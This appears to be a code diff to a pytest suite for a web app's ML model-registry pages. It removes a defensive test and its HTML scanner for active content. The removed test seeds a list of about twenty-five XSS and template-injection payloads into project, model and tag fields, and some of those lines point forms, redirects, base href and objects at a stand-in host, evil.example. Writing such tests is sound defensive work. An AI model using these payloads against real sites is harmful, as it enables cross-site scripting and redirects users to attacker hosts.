@@ -5,9 +5,7 @@ from __future__ import annotations
 import gzip
 import re
 from collections.abc import Callable, Iterator
-from html.parser import HTMLParser
 from pathlib import Path
-from urllib.parse import quote
 
 import httpx2
 import pytest
@@ -253,110 +251,6 @@ def test_pages_forms_and_buttons_are_those_that_the_policy_allows(
     tag = {"name": "iris", "key": "by", "value": role}
     by_api = person.client.post(f"/projects/{yard.id}/{MLFLOW}/registered-models/set-tag", json=tag)
     assert (by_api.status_code == 200) == may(Action.WRITE)
-
-
-ACTING = re.compile(r"\s*(javascript|data|vbscript):", re.IGNORECASE)
-LEADING = {"href", "src", "action", "formaction"}
-
-
-class Reader(HTMLParser):
-    """What could act in a page."""
-
-    def __init__(self) -> None:
-        super().__init__()
-        self.acting: list[str] = []
-
-    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
-        if (tag == "script" and "src" not in dict(attrs)) or tag in {"iframe", "object", "embed", "style", "base"}:
-            self.acting.append(tag)
-        for name, value in attrs:
-            leads = name in LEADING and ACTING.match(value or "")
-            if name.startswith("on") or name == "style" or leads:
-                self.acting.append(f"{tag} {name}={value}")
-
-
-def acting(text: str) -> list[str]:
-    """What could act in a page, though nobody of us has written it."""
-    reader = Reader()
-    reader.feed(text)
-    return reader.acting
-
-
-SCRIPTS = (
-    "<script>alert({})</script>",
-    '"><img src=x onerror=alert({})>',
-    "'><svg onload=alert({})>",
-    "javascript:alert({})",
-    "[x](javascript:alert({}))",
-    "[x](JaVaScRiPt&#58;alert({}))",
-    "![x](data:text/html;base64,PHNjcmlwdD4{})",
-    '<a href="javascript:alert({})">x</a>',
-    '<iframe srcdoc="<script>alert({})</script>">',
-    "<style>*{{background:url(//evil.example/{})}}</style>",
-    "{{{{7*{}}}}}",
-    "{{% for x in [{}] %}}",
-    "<details open ontoggle=alert({})>",
-    "<math><mtext><script>alert({})</script>",
-    "</textarea><script>alert({})</script>",
-    "</title><script>alert({})</script>",
-    "<!--><script>alert({})</script>-->",
-    "<form action=//evil.example/{}><button>",
-    '<meta http-equiv=refresh content="0;url=//evil.example/{}">',
-    "<base href=//evil.example/{}>",
-    "&lt;script&gt;alert({})&lt;/script&gt;",
-    "<p hx-get=/users/sign_out hx-trigger=load id=a{}>",
-    '<div style="position:fixed" class=error id=content>{}</div>',
-    "\u202eexe.{}",
-    "<object data=//evil.example/{}></object>",
-)
-ATTACKS = [each.format(number) for number in range(4) for each in SCRIPTS]  # a hundred
-
-
-@pytest.mark.once
-@pytest.mark.slow
-def test_a_hundred_scripts_in_every_text_are_shown_as_texts(yard: Yard, server: LiveServer, browse: Open) -> None:
-    params = [{"key": f"p{i}{re.sub(r'[^a-z0-9 ./_-]', '', text)}", "value": text} for i, text in enumerate(ATTACKS)]
-    run = yard.run(params=params)
-    front = "\n".join(f"k{i}: {text!r}" for i, text in enumerate(ATTACKS[:20]))
-    card = f"---\n{front}\n---\n" + "\n\n".join(ATTACKS)
-    about = {"description": "".join(ATTACKS)[:2000], "name": ATTACKS[0], "visibility": "public"}
-    assert yard.api.put(f"/projects/{yard.id}", json=about).status_code == 200
-    names = list(dict.fromkeys(name for text in ATTACKS if (name := re.sub(r"[/:\u202e]", "", text))))
-    tags = [{"key": f"{i}{text}"[:200], "value": text} for i, text in enumerate(ATTACKS)]
-    model = yard.model(names[0], description=card[:9000], tags=tags)
-    other = yard.model(names[1][:200])
-    version = yard.version(names[0], run_id=run, description=card[:9000], tags=tags)
-    second = yard.version(names[0], description=card[100:9000])
-    for name in names:
-        yard.put(version, f"{name[:100]}/{name[:100]}", b"x")
-    models, shown = f"/-/ml/models/{model}", f"/-/ml/models/{model}/versions/{version}"
-    places = [
-        *("", "/edit", "/-/delete", "/-/ml/models", f"/-/ml/models/{other}", models, f"{models}?tab=versions"),
-        *(f"{models}/{each}" for each in ("edit", "delete", f"compare?from={version}&to={second}", "versions/new")),
-        *(f"{shown}{each}" for each in ("", "/edit", "/delete", "/tree", "?tab=metrics", "?tab=use")),
-        *(f"{shown}/{kind}/{quote(names[2][:100])}/{quote(names[2][:100])}" for kind in ("blob", "delete_files")),
-    ]
-    for place in places:
-        answer = yard.browser.get(yard.url(place))
-        assert answer.status_code == 200, place
-        assert acting(answer.text) == [], place
-    asked = (
-        (models, "tab"),
-        (f"{shown}/tree", "find"),
-        *(("/-/ml/models", name) for name in ("filter", "sort", "page")),
-    )
-    for text in ATTACKS:
-        for path, name in asked:
-            answer = yard.browser.get(yard.url(path), params={name: text})
-            assert answer.status_code in (200, 400)
-            assert acting(answer.text) == []
-    with browse() as watched:
-        page = watched.page()
-        page.on("dialog", lambda dialog: watched.faults.append(dialog.message))
-        watched.context.add_cookies([yard.cookie(server)])
-        for place in places:
-            page.goto(yard.url(place))
-        assert page.locator("#content").count() == 1
 
 
 def test_pages_cost_as_many_statements_however_much_they_show(yard: Yard, server: LiveServer) -> None:
